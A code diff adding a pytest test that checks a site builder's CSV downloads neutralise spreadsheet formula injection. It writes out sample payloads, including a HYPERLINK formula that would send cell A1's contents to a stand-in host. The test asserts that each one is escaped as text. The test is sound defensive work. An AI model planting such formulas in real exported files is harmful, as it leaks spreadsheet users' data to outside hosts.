@@ -421,6 +421,27 @@ def test_downloads(sample_site: Path) -> None:
     assert os.path.getsize(dl / "phu-luc-4.csv") > 0
 
 
+
+def test_csv_downloads_keep_formulas_as_text(tmp_path: Path) -> None:
+    """A unit's text that a spreadsheet would run ("=HYPERLINK(…)") is written as text."""
+    import csv
+
+    tmp = copy_samples(tmp_path)
+    sample = tmp / "submissions" / SAMPLES[0].name
+    data = yaml.safe_load(sample.read_text(encoding="utf-8"))
+    data["appendix_1"][0]["summary"] = '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm")'
+    data["appendix_1"][0]["type"] = "@SUM(1+1)"
+    sample.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    r = build(tmp)
+    assert r.returncode == 0, r.stdout + r.stderr
+    text = (tmp / "site" / "tai-ve" / "phu-luc-1.csv").read_text(encoding="utf-8-sig")
+    row = next(row for row in csv.reader(text.splitlines()) if row[0] == data["unit"]["id"])
+    assert row[3:6] == [
+        "'@SUM(1+1)",
+        data["appendix_1"][0]["number"],
+        '\'=HYPERLINK("http://example.invalid/?d="&A1,"Bấm")',
+    ]
+
 def many_units(tmp: Path, n: int) -> tuple[dict[str, Any], list[Path]]:
     """A campaign of `n` units in `tmp`, each submitting a copy of a sample as "Đơn vị <i>"."""
     campaign = yaml.safe_load((ROOT / "campaign.yaml").read_text(encoding="utf-8"))
